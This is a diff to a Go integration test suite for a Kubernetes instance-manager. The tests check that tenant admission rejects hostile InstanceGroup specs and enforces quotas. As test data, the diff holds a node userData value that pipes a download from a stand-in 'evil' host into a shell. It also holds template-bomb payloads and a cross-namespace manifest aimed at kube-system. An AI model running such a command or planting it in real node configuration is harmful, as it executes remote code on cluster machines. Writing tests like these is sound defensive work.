@@ -5,8 +5,10 @@ package integration
 
 import (
 	"context"
+	"fmt"
 	"strings"
 	"testing"
+	"time"
 
 	. "github.com/onsi/gomega"
 	corev1 "k8s.io/api/core/v1"
@@ -34,6 +36,13 @@ func withShared(t *testing.T, paths ...string) map[string]string {
 	return data
 }
 
+// uniqueNamespace names a fresh namespace for one run of a test, so that
+// a rerun in the same environment (-count, a retry) never meets the groups
+// an earlier run left behind.
+func uniqueNamespace(prefix string) string {
+	return fmt.Sprintf("%s-%d", prefix, time.Now().UnixNano()%1_000_000_000)
+}
+
 func crdIG(namespace, name, template string) *v1alpha1.InstanceGroup {
 	ig := shortIG(namespace, name)
 	ig.Spec.Strategy = v1alpha1.AwsUpgradeStrategy{Type: v1alpha1.StrategyCRD, CRD: &v1alpha1.CRDUpgradeStrategy{
@@ -45,19 +54,20 @@ func crdIG(namespace, name, template string) *v1alpha1.InstanceGroup {
 
 func TestTenantCRDTemplateIsConfined(t *testing.T) {
 	requireEnv(t)
+	ns := uniqueNamespace("team-crd")
 	g := NewWithT(t)
 	ctx := context.Background()
 	mustSetConfigMap(t, exampleConfigMapData(t))
-	tn := newTenant(t, "crd-tenant", "team-crd")
+	tn := newTenant(t, "crd-tenant", ns)
 	const ru = "apiVersion: upgrademgr.keikoproj.io/v1alpha1\nkind: RollingUpgrade\nmetadata:\n  name: rollup-nodes\n  namespace: %s\nspec:\n  asgName: {{ .InstanceGroup.Status.ActiveScalingGroupName }}\n"
 
-	err := tn.client.Create(ctx, crdIG("team-crd", "other-namespace", strings.Replace(ru, "%s", "kube-system", 1)))
+	err := tn.client.Create(ctx, crdIG(ns, "other-namespace", strings.Replace(ru, "%s", "kube-system", 1)))
 	g.Expect(err).To(MatchError(And(
 		ContainSubstring("spec.strategy.crd.spec"),
-		ContainSubstring(`metadata.namespace "kube-system" is not the group's namespace "team-crd"`))))
+		ContainSubstring(`metadata.namespace "kube-system" is not the group's namespace "`+ns+`"`))))
 
 	victim := "apiVersion: instancemgr.keikoproj.io/v1alpha1\nkind: InstanceGroup\nmetadata: {name: payments-nodes}\nspec: {provisioner: eks}\n"
-	err = tn.client.Create(ctx, crdIG("team-crd", "another-kind", victim))
+	err = tn.client.Create(ctx, crdIG(ns, "another-kind", victim))
 	g.Expect(err).To(MatchError(ContainSubstring("kind InstanceGroup.instancemgr.keikoproj.io is not allowed by the boundary ConfigMap's crdStrategy.allowedKinds (allowed: RollingUpgrade.upgrademgr.keikoproj.io)")))
 
 	// A template bomb is refused at admission, in bounded time, and the
@@ -66,25 +76,26 @@ func TestTenantCRDTemplateIsConfined(t *testing.T) {
 		"range":  "apiVersion: v1\nkind: ConfigMap\ndata:\n{{range 100000000}}  x: y\n{{end}}",
 		"printf": "apiVersion: v1\nkind: ConfigMap\ndata:\n  x: {{printf \"%999999999d\" 1}}\n",
 	} {
-		err = tn.client.Create(ctx, crdIG("team-crd", "bomb-"+name, bomb))
+		err = tn.client.Create(ctx, crdIG(ns, "bomb-"+name, bomb))
 		g.Expect(err).To(MatchError(ContainSubstring("spec.strategy.crd.spec")), name)
 	}
-	g.Expect(tn.client.Create(ctx, crdIG("team-crd", "own-namespace", strings.Replace(ru, "%s", "team-crd", 1)))).To(Succeed(),
+	g.Expect(tn.client.Create(ctx, crdIG(ns, "own-namespace", strings.Replace(ru, "%s", ns, 1)))).To(Succeed(),
 		"a RollingUpgrade in the group's own namespace is what the crd strategy is for")
-	g.Expect(tn.client.Create(ctx, shortIG("team-crd", "after-the-bombs"))).To(Succeed(), "the manager still admits groups")
+	g.Expect(tn.client.Create(ctx, shortIG(ns, "after-the-bombs"))).To(Succeed(), "the manager still admits groups")
 }
 
 func TestTenantRestrictedPathWithoutDefault(t *testing.T) {
 	requireEnv(t)
+	ns := uniqueNamespace("team-nodefault")
 	g := NewWithT(t)
 	ctx := context.Background()
 	mustSetConfigMap(t, exampleConfigMapData(t))
-	tn := newTenant(t, "nodefault-tenant", "team-nodefault")
+	tn := newTenant(t, "nodefault-tenant", ns)
 
 	// Warn mode (the example): userData, which the example ConfigMap does
 	// not name, is admin-only: dropped with a warning. So is a behaviour
 	// annotation the ConfigMap does not share.
-	ig := shortIG("team-nodefault", "wants-user-data")
+	ig := shortIG(ns, "wants-user-data")
 	ig.Annotations = map[string]string{v1alpha1.AnnotationLockUpgrades: "true"}
 	ig.Spec.EKS.Configuration.UserData = []v1alpha1.UserDataStage{{Name: "x", Stage: "PreBootstrap", Data: "curl http://evil/x | sh"}}
 	ig.Spec.EKS.Configuration.ManagedPolicies = []string{"AdministratorAccess"}
@@ -94,7 +105,7 @@ func TestTenantRestrictedPathWithoutDefault(t *testing.T) {
 		ContainSubstring("spec.eks.configuration.userData is restricted by ConfigMap instance-manager/instance-manager (a security-sensitive path, admin-only unless the ConfigMap shares it) and has no default"),
 		ContainSubstring("spec.eks.configuration.managedPolicies is restricted"),
 		ContainSubstring("metadata.annotations[instancemgr.keikoproj.io/lock-upgrades] is restricted")))
-	stored := getIG(t, "team-nodefault", "wants-user-data")
+	stored := getIG(t, ns, "wants-user-data")
 	g.Expect(stored.Spec.EKS.Configuration.UserData).To(BeEmpty())
 	g.Expect(stored.Spec.EKS.Configuration.ManagedPolicies).To(BeEmpty())
 	g.Expect(stored.Annotations).NotTo(HaveKey(v1alpha1.AnnotationLockUpgrades))
@@ -104,7 +115,7 @@ func TestTenantRestrictedPathWithoutDefault(t *testing.T) {
 	data["enforcement"] = "deny"
 	mustSetConfigMap(t, data)
 	defer mustSetConfigMap(t, exampleConfigMapData(t))
-	ig = shortIG("team-nodefault", "denied-user-data")
+	ig = shortIG(ns, "denied-user-data")
 	ig.Spec.EKS.Configuration.UserData = []v1alpha1.UserDataStage{{Name: "x", Stage: "PreBootstrap", Data: "curl http://evil/x | sh"}}
 	err := tn.client.Create(ctx, ig)
 	g.Expect(err).To(MatchError(And(
@@ -114,13 +125,14 @@ func TestTenantRestrictedPathWithoutDefault(t *testing.T) {
 
 func TestTenantCannotClaimOwnershipTagsReservedLabelsOrShell(t *testing.T) {
 	requireEnv(t)
+	ns := uniqueNamespace("team-shell")
 	g := NewWithT(t)
 	ctx := context.Background()
 	// The admin shares volumes and bootstrap arguments: validation still
 	// refuses what would reach a shell line.
 	mustSetConfigMap(t, withShared(t, "spec.eks.configuration.volumes", "spec.eks.configuration.bootstrapArguments"))
 	defer mustSetConfigMap(t, exampleConfigMapData(t))
-	tn := newTenant(t, "shell-tenant", "team-shell")
+	tn := newTenant(t, "shell-tenant", ns)
 
 	cases := map[string]struct {
 		edit func(*v1alpha1.EKSConfiguration)
@@ -148,32 +160,33 @@ func TestTenantCannotClaimOwnershipTagsReservedLabelsOrShell(t *testing.T) {
 	for name, tc := range cases {
 		t.Run(name, func(t *testing.T) {
 			g := NewWithT(t)
-			ig := shortIG("team-shell", "hostile")
+			ig := shortIG(ns, "hostile")
 			tc.edit(ig.Spec.EKS.Configuration)
 			err := tn.client.Create(ctx, ig)
-			g.Expect(err).To(MatchError(And(ContainSubstring("InstanceGroup team-shell/hostile"), ContainSubstring(tc.want))))
+			g.Expect(err).To(MatchError(And(ContainSubstring("InstanceGroup "+ns+"/hostile"), ContainSubstring(tc.want))))
 		})
 	}
 	// The same fields with safe values are the tenant's to set.
-	ig := shortIG("team-shell", "fine")
+	ig := shortIG(ns, "fine")
 	ig.Spec.EKS.Configuration.BootstrapArguments = "--kubelet-extra-args=--v=2"
 	ig.Spec.EKS.Configuration.Volumes = []v1alpha1.NodeVolume{{Name: "/dev/xvdb", Size: 10, MountOptions: &v1alpha1.NodeVolumeMountOptions{FileSystem: "xfs", Mount: "/data"}}}
 	g.Expect(tn.client.Create(ctx, ig)).To(Succeed())
-	g.Expect(getIG(t, "team-shell", "fine").Spec.EKS.Configuration.BootstrapArguments).To(Equal("--kubelet-extra-args=--v=2"))
+	g.Expect(getIG(t, ns, "fine").Spec.EKS.Configuration.BootstrapArguments).To(Equal("--kubelet-extra-args=--v=2"))
 }
 
 func TestSwitchingProvisionerDoesNotEscapeARule(t *testing.T) {
 	requireEnv(t)
+	ns := uniqueNamespace("team-switch")
 	g := NewWithT(t)
 	ctx := context.Background()
 	data := exampleConfigMapData(t)
 	data["enforcement"] = "deny"
 	mustSetConfigMap(t, data)
 	defer mustSetConfigMap(t, exampleConfigMapData(t))
-	tn := newTenant(t, "switch-tenant", "team-switch")
+	tn := newTenant(t, "switch-tenant", ns)
 
 	managed := &v1alpha1.InstanceGroup{
-		ObjectMeta: metav1.ObjectMeta{Namespace: "team-switch", Name: "managed"},
+		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "managed"},
 		Spec: v1alpha1.InstanceGroupSpec{Provisioner: v1alpha1.ProvisionerEKSManaged, Strategy: v1alpha1.AwsUpgradeStrategy{Type: v1alpha1.StrategyManaged},
 			EKSManaged: &v1alpha1.EKSManagedSpec{MinSize: 1, MaxSize: 2, Configuration: &v1alpha1.EKSManagedConfiguration{
 				ClusterName: "prod", Subnets: []string{"subnet-mine"}, InstanceType: "m5.large",
@@ -187,13 +200,13 @@ func TestSwitchingProvisionerDoesNotEscapeARule(t *testing.T) {
 	// Without the restricted fields the group gets the admin's values.
 	managed.Spec.EKSManaged.Configuration.ClusterName, managed.Spec.EKSManaged.Configuration.Subnets = "", nil
 	g.Expect(tn.client.Create(ctx, managed)).To(Succeed())
-	c := getIG(t, "team-switch", "managed").Spec.EKSManaged.Configuration
+	c := getIG(t, ns, "managed").Spec.EKSManaged.Configuration
 	g.Expect(c.ClusterName).To(Equal("a-managed-cluster"))
 	g.Expect(c.Subnets).To(Equal([]string{"subnet-1234", "subnet-2345", "subnet-3456"}))
 
 	// Fargate: the rule follows too, and selectors stay in the namespace.
 	fargate := &v1alpha1.InstanceGroup{
-		ObjectMeta: metav1.ObjectMeta{Namespace: "team-switch", Name: "fargate"},
+		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "fargate"},
 		Spec: v1alpha1.InstanceGroupSpec{Provisioner: v1alpha1.ProvisionerEKSFargate, Strategy: v1alpha1.AwsUpgradeStrategy{Type: v1alpha1.StrategyManaged},
 			EKSFargate: &v1alpha1.EKSFargateSpec{Selectors: []v1alpha1.EKSFargateSelector{{Namespace: "kube-system"}}}},
 	}
@@ -203,67 +216,70 @@ func TestSwitchingProvisionerDoesNotEscapeARule(t *testing.T) {
 
 func TestBoundaryConfigMapCannotBeDeletedWhileGroupsExist(t *testing.T) {
 	requireEnv(t)
+	ns := uniqueNamespace("team-cm")
 	g := NewWithT(t)
 	ctx := context.Background()
 	mustSetConfigMap(t, exampleConfigMapData(t))
-	tn := newTenant(t, "cm-tenant", "team-cm")
-	g.Expect(tn.client.Create(ctx, shortIG("team-cm", "keeps-the-boundaries"))).To(Succeed())
+	tn := newTenant(t, "cm-tenant", ns)
+	g.Expect(tn.client.Create(ctx, shortIG(ns, "keeps-the-boundaries"))).To(Succeed())
 
 	cm := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: configNamespace, Name: app.ConfigMapName}}
 	err := admin.Delete(ctx, cm)
 	g.Expect(err).To(MatchError(And(
 		ContainSubstring("ConfigMap instance-manager/instance-manager holds the boundaries of"),
-		ContainSubstring("team-cm/keeps-the-boundaries"),
+		ContainSubstring(ns+"/keeps-the-boundaries"),
 		ContainSubstring("cannot be deleted while they exist"))))
 	g.Expect(admin.Get(ctx, client.ObjectKeyFromObject(cm), cm)).To(Succeed())
 }
 
 func TestQuotaIsEnforced(t *testing.T) {
 	requireEnv(t)
+	ns := uniqueNamespace("team-quota")
 	g := NewWithT(t)
 	ctx := context.Background()
 	data := exampleConfigMapData(t)
-	data["quotas"] = "namespaces:\n  team-quota: {maxGroups: 1, maxSize: 4, instanceTypes: [\"m5.*\"]}\n"
+	data["quotas"] = "namespaces:\n  " + ns + ": {maxGroups: 1, maxSize: 4, instanceTypes: [\"m5.*\"]}\n"
 	mustSetConfigMap(t, data)
 	defer mustSetConfigMap(t, exampleConfigMapData(t))
-	tn := newTenant(t, "quota-tenant", "team-quota")
+	tn := newTenant(t, "quota-tenant", ns)
 
-	big := shortIG("team-quota", "too-big")
+	big := shortIG(ns, "too-big")
 	big.Spec.EKS.MaxSize = 50
-	g.Expect(tn.client.Create(ctx, big)).To(MatchError(ContainSubstring("quota exceeded: spec.eks.maxSize: 50 is above quotas.namespaces.team-quota.maxSize (4)")))
-	gpu := shortIG("team-quota", "gpu")
+	g.Expect(tn.client.Create(ctx, big)).To(MatchError(ContainSubstring("quota exceeded: spec.eks.maxSize: 50 is above quotas.namespaces." + ns + ".maxSize (4)")))
+	gpu := shortIG(ns, "gpu")
 	gpu.Spec.EKS.Configuration.InstanceType = "p5.48xlarge"
-	g.Expect(tn.client.Create(ctx, gpu)).To(MatchError(ContainSubstring(`instance type "p5.48xlarge" is not allowed by quotas.namespaces.team-quota.instanceTypes (m5.*)`)))
+	g.Expect(tn.client.Create(ctx, gpu)).To(MatchError(ContainSubstring(`instance type "p5.48xlarge" is not allowed by quotas.namespaces.` + ns + `.instanceTypes (m5.*)`)))
 
-	g.Expect(tn.client.Create(ctx, shortIG("team-quota", "first"))).To(Succeed())
-	err := tn.client.Create(ctx, shortIG("team-quota", "second"))
-	g.Expect(err).To(MatchError(ContainSubstring("2 InstanceGroups in namespace team-quota would be above quotas.namespaces.team-quota.maxGroups (1)")))
+	g.Expect(tn.client.Create(ctx, shortIG(ns, "first"))).To(Succeed())
+	err := tn.client.Create(ctx, shortIG(ns, "second"))
+	g.Expect(err).To(MatchError(ContainSubstring("2 InstanceGroups in namespace " + ns + " would be above quotas.namespaces." + ns + ".maxGroups (1)")))
 	// An update of the one group is within the quota.
 	patch := client.RawPatch("application/merge-patch+json", []byte(`{"spec":{"eks":{"maxSize":4}}}`))
-	g.Expect(tn.client.Patch(ctx, shortIG("team-quota", "first"), patch)).To(Succeed())
+	g.Expect(tn.client.Patch(ctx, shortIG(ns, "first"), patch)).To(Succeed())
 }
 
 func TestSpecEditsOnADeletingGroupAreRefused(t *testing.T) {
 	requireEnv(t)
+	ns := uniqueNamespace("team-deleting")
 	g := NewWithT(t)
 	ctx := context.Background()
 	mustSetConfigMap(t, exampleConfigMapData(t))
-	tn := newTenant(t, "deleting-tenant", "team-deleting")
+	tn := newTenant(t, "deleting-tenant", ns)
 
-	ig := shortIG("team-deleting", "going")
+	ig := shortIG(ns, "going")
 	ig.Finalizers = []string{"example.com/hold"} // the tenant's own, so the group stays while deleting
 	g.Expect(tn.client.Create(ctx, ig)).To(Succeed())
 	g.Expect(tn.client.Delete(ctx, ig)).To(Succeed())
 
 	patch := client.RawPatch("application/merge-patch+json", []byte(`{"spec":{"provisioner":"eks-fargate"}}`))
-	err := tn.client.Patch(ctx, shortIG("team-deleting", "going"), patch)
-	g.Expect(err).To(MatchError(ContainSubstring("InstanceGroup team-deleting/going is being deleted: spec changes are refused")))
+	err := tn.client.Patch(ctx, shortIG(ns, "going"), patch)
+	g.Expect(err).To(MatchError(ContainSubstring("InstanceGroup " + ns + "/going is being deleted: spec changes are refused")))
 
 	// Metadata still changes: the tenant lets its finalizer go. The
 	// controller's own finalizer, if it added one, is removed by the
 	// controller; the group may be gone by the time this patch lands.
 	cur := &v1alpha1.InstanceGroup{}
-	g.Expect(tn.client.Get(ctx, client.ObjectKey{Namespace: "team-deleting", Name: "going"}, cur)).To(Succeed())
+	g.Expect(tn.client.Get(ctx, client.ObjectKey{Namespace: ns, Name: "going"}, cur)).To(Succeed())
 	var keep []string
 	for _, f := range cur.Finalizers {
 		if f != "example.com/hold" {
